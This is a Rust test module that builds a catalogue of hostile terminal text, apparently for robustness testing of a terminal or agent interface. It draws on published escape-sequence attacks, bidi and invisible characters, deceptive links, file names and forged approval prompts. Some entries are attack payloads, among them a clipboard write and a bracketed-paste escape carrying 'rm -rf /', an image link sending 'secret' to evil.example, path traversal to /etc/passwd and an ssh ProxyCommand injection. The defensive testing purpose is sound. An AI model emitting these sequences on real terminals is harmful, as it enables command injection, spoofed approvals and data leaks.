//! What people and machines have sent to break terminals: families of hostile text, each written by hand from a published
//! attack or a known disagreement of terminals, and multiplied by its endings and neighbours.
//!
//! A case is two texts: what one message begins, the next may end. Deliberately not here: which screens they are put on.

/// One hostile text, or one in two pieces.
#[derive(Clone, Debug)]
pub(super) struct Case {
    pub family: &'static str,
    pub first: String,
    pub second: String,
}

/// Published attacks: gurk, kubectl, git, Deno, `OpenClaw`, Codex, less, Irssi, Screen, iTerm2, rxvt, xterm, Ghostty, others.
const PUBLISHED: [&str; 40] = [
    "\u{1b}]0;owned\u{7}",
    "\u{1b}]2;owned\u{1b}\\",
    "\u{1b}[21t",
    "\u{1b}[20t",
    "\u{1b}P$q\"p\u{1b}\\",
    "\u{1b}P+q436f\u{1b}\\",
    "\u{1b}[6n\u{1b}[c\u{1b}[>c",
    "\u{1b}]52;c;cm0gLXJmIC8=\u{7}",
    "\u{1b}]52;c;?\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\click",
    "\u{1b}]8;;http://evil.example\u{7}never closed",
    "\u{1b}]1337;File=inline=1:AAAA\u{7}",
    "\u{1b}]50;#\u{7}",
    "\u{1b}]10;?\u{7}\u{1b}]11;?\u{7}",
    "\u{1b}]4;1;?\u{7}",
    "\u{1b}]9;4;1;50\u{7}",
    "\u{1b}]777;notify;a;b\u{7}",
    "\u{1b}]99;i=1;hello\u{1b}\\",
    "\u{1b}_Gf=24,s=10,v=20;AAAA\u{1b}\\",
    "\u{1b}X start of string\u{1b}\\",
    "\u{1b}^privacy\u{1b}\\",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[1;1H\u{1b}[0Jroot@host:~# ",
    "\u{1b}[?1049l\u{1b}[?1049h",
    "\u{1b}[?1000h\u{1b}[?1006h",
    "\u{1b}[?2004l",
    "\u{1b}[201~rm -rf /\n",
    "\u{1b}[!p\u{1b}c",
    "\u{1b}#8",
    "\u{1b}(0lqqk\u{1b}(B",
    "\u{e}lqqk\u{f}",
    "\u{1b}[8mhidden\u{1b}[0m",
    "\u{1b}[31mFATAL: session terminated\u{1b}[0m",
    "allow? [y/N]\r\u{1b}[2K\u{1b}[1Aallow? [Y/n] y",
    "approve only: read\u{8}\u{8}\u{8}\u{8}delete",
    "fine\rforged line",
    "\u{1b}[5i print to file \u{1b}[4i",
    "\u{1b}[?5h\u{1b}[?5l\u{7}\u{7}\u{7}",
    "\u{9b}2J\u{9d}0;c1 title\u{9c}",
    "\u{85}next\u{84}index\u{8d}reverse\u{90}dcs\u{9c}",
];

const STRINGS: [&str; 10] = ["]0;", "]2;", "]52;c;", "]8;;", "]1337;", "P", "_G", "^", "X", "]11;"];
const INNER: [&str; 6] = ["owned", "\u{1b}[2J", "?", "AAAA;\u{9c}", "http://evil.example/\u{202e}", "\n\r\t"];
const ENDS: [&str; 5] = ["\u{7}", "\u{1b}\\", "\u{9c}", "", "\u{18}"];
const BIDI: [&str; 15] = [
    "\u{202a}", "\u{202b}", "\u{202d}", "\u{202e}", "\u{202c}", "\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}",
    "\u{200e}", "\u{200f}", "\u{61c}", "\u{2028}", "\u{2029}", "\u{206a}",
];
const UNSEEN: [&str; 15] = [
    "\u{200b}",
    "\u{200c}",
    "\u{200d}",
    "\u{2060}",
    "\u{feff}",
    "\u{ad}",
    "\u{34f}",
    "\u{115f}",
    "\u{1160}",
    "\u{3164}",
    "\u{ffa0}",
    "\u{180e}",
    "\u{e0001}",
    "\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}",
    "\u{e007f}",
];
const MARKS: [&str; 15] = [
    "\u{301}",
    "\u{308}",
    "\u{323}",
    "\u{20dd}",
    "\u{20e3}",
    "\u{489}",
    "\u{5b0}",
    "\u{64b}",
    "\u{93c}",
    "\u{e31}",
    "\u{fb1e}",
    "\u{1ab0}",
    "\u{fe20}",
    "\u{1d165}",
    "\u{e0100}",
];
const EMOJI: [&str; 15] = [
    "👩\u{200d}👩\u{200d}👧",
    "🏳\u{fe0f}\u{200d}🌈",
    "👍🏽",
    "🇩🇪",
    "🇩",
    "❤\u{fe0f}",
    "❤\u{fe0e}",
    "1\u{fe0f}\u{20e3}",
    "🤌",
    "🧑🏿\u{200d}🤝\u{200d}🧑🏻",
    "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "🏴\u{e0067}",
    "\u{200d}👧",
    "☎\u{fe0f}",
    "👁\u{fe0f}\u{200d}🗨\u{fe0f}",
];
const WIDE: [&str; 20] = [
    "王小明",
    "ｆｕｌｌ",
    "ﾊﾝｶｸ",
    "한글",
    "ᄒᆞᆫ",
    "क्षि",
    "ဣ",
    "ﷺ",
    "꧅",
    "𒐫",
    "🮲🮳",
    "⸻",
    "…",
    "“”",
    "①②",
    "←→",
    "╳╳",
    "\u{3000}",
    "\u{a0}",
    "\t\t",
];
const LINKS: [&str; 10] = [
    "https://example.org@evil.example/",
    "https://еxample.org",
    "http://xn--80ak6aa92e.com",
    "javascript:alert(1)",
    "[help](https://evil.example)",
    "![x](http://evil.example/p.png?d=secret)",
    "mailto:a@b?bcc=evil@example.org",
    "file:///etc/passwd",
    "ssh://-oProxyCommand=x/",
    "https://evil.example/\u{202e}gro.elpmaxe",
];
const NAMES: [&str; 10] = [
    "../../etc/passwd",
    "-rf",
    "a\u{0}b.md",
    "con\r\n.md",
    "invoice\u{202e}fdp.exe",
    "CON",
    "\u{1b}]0;x\u{7}.md",
    "aux|rm",
    " ",
    "名\u{301}前.md",
];
const APPROVALS: [&str; 10] = [
    "{\"amount\":89}\u{1b}[2K\r{\"amount\":8}",
    "digest e8a683da3fa4aad1\ny approve",
    "│ amount 1.00",
    "▲ draft, approved by you",
    "\u{1b}[8m9999\u{1b}[0m89",
    "8\u{200b}9\u{200b}9",
    "89\u{202e}00.98",
    "8９",
    "amount\u{a0}1",
    "y approve   e edit   x reject",
];

/// All of them, in order of their families.
pub(super) fn all() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut add = |family, first: String, second: String| cases.push(Case { family, first, second });
    for text in PUBLISHED {
        add("published", text.to_owned(), format!("before {text} after"));
    }
    for begin in STRINGS {
        for inner in INNER {
            for end in ENDS {
                add("strings", format!("\u{1b}{begin}{inner}{end}"), format!("a\u{1b}{begin}{inner}{end}b"));
            }
        }
    }
    for text in PUBLISHED.into_iter().chain([
        "\u{1b}[38;2;1;2;3m",
        "\u{1b}]8;;x\u{1b}\\y\u{1b}]8;;\u{1b}\\",
        "\u{1b}[1;2;3;4;5;6H",
    ]) {
        let edges: Vec<usize> = text.char_indices().map(|(at, _)| at).skip(1).take(5).collect();
        for at in edges {
            let (head, tail) = text.split_at(at);
            add("truncated", format!("cut {head}"), format!("\u{1b}[1m{head}"));
            add("split", format!("one {head}"), format!("{tail} two"));
        }
    }
    for (n, one) in BIDI.into_iter().enumerate() {
        for (m, word) in ["user", "شكرا 42", "a(b)c", "a\u{5d0}\u{5d1}b", "", "x\ny", "12:30", "€ 99", "[1]", "ok?"]
            .into_iter()
            .enumerate()
        {
            let other = BIDI[(n + m + 1) % BIDI.len()];
            add("bidi", format!("{one}{word}"), format!("a{one}{word}{other}b"));
        }
    }
    for (n, one) in UNSEEN.into_iter().enumerate() {
        for (m, word) in
            ["pay", "refund", "می\u{200c}خواهم", "", "a b", "🏴", "नमस्ते", "0", "\n", "…"].into_iter().enumerate()
        {
            let other = UNSEEN[(n + m + 1) % UNSEEN.len()];
            add("unseen", format!("{one}{word}{one}"), format!("w{one}o{other}rd{word}"));
        }
    }
    for (n, mark) in MARKS.into_iter().enumerate() {
        for count in [1, 2, 3, 8, 9, 30, 64, 200, 900, 3_000] {
            let other = MARKS[(n + count) % MARKS.len()];
            add("combining", format!("e{}", mark.repeat(count)), format!("{}{}x", other, mark.repeat(count)));
        }
    }
    for (n, one) in EMOJI.into_iter().enumerate() {
        for (m, before) in
            ["", "a", "王", "\u{200d}", "🇫", "👩\u{200d}", "\u{fe0f}", " ", "❤", "\u{1f3fd}"].into_iter().enumerate()
        {
            let other = EMOJI[(n + m + 1) % EMOJI.len()];
            add("emoji", format!("{before}{one}"), format!("{}{before}{other}z", one.repeat(12)));
        }
    }
    for (n, one) in WIDE.into_iter().enumerate() {
        for count in [1, 2, 7, 8, 17, 18, 38, 39, 78, 200] {
            let other = WIDE[(n + count) % WIDE.len()];
            add("width", one.repeat(count), format!("x{}{other}", one.repeat(count)));
        }
    }
    for text in PUBLISHED {
        for begin in ["", "\u{1b}[201~", "\u{1b}[200~\u{1b}[201~", "t\r"] {
            add("paste", format!("{begin}{text}"), format!("{text}\u{1b}[201~q\r"));
        }
    }
    for (family, base) in [("links", LINKS), ("names", NAMES), ("approvals", APPROVALS)] {
        for one in base {
            for more in ["", "\u{1b}[7m", "\u{200b}", "\u{202e}", " ", "\n", "a", "王", "\u{301}", "\u{7}"] {
                add(family, format!("{one}{more}"), format!("{more}{one}"));
            }
        }
    }
    cases
}
